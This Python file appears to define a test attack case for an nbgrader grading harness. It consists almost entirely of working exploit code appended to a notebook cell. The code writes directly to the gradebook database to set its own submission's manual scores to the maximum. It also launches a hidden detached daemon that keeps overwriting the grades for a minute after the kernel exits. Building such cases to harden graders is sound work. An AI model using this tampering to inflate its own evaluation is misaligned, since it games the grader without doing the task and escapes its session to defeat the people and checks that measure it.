"""Give itself full marks in the gradebook: an sqlite UPDATE of its own grades' manual_score.

Nothing is implemented. The zero_pad cell opens ``../../../gradebook.db`` and sets
``manual_score`` to each cell's maximum for every grade of its own submission; a
daemon it starts repeats that for 60 s after the kernel ends, in case the grader writes
the automatic scores afterwards. nbgrader's score is the manual score when there is one.
Without protection: 100 points with nothing implemented.
"""
BASE = "release"
EXPECT = set()
APPEND = {"zero_pad": '''
import os as _os
import subprocess as _subprocess
import sys as _sys

_FORGE = """
import os, sqlite3, sys, time
# cnnattack_gradebook_raise_own
me, db_path = sys.argv[1], sys.argv[2]
end = time.monotonic() + 60
while time.monotonic() < end:
    try:
        db = sqlite3.connect(db_path, timeout=2)
        db.execute(
            "UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id) "
            "WHERE notebook_id IN (SELECT submitted_notebook.id FROM submitted_notebook JOIN submitted_assignment "
            "ON submitted_notebook.assignment_id = submitted_assignment.id WHERE submitted_assignment.student_id = ?)",
            (me,))
        db.commit()
        db.close()
    except Exception:
        pass
    time.sleep(0.5)
"""
_me = _os.path.basename(_os.path.dirname(_os.getcwd()))
_db_path = _os.path.abspath("../../../gradebook.db")
_subprocess.run([_sys.executable, "-c", _FORGE.replace("end = time.monotonic() + 60", "end = time.monotonic() + 1"),
                 _me, _db_path], timeout=20)
_subprocess.Popen([_sys.executable, "-c", _FORGE, _me, _db_path], start_new_session=True,
                  stdin=_subprocess.DEVNULL, stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL)
'''}
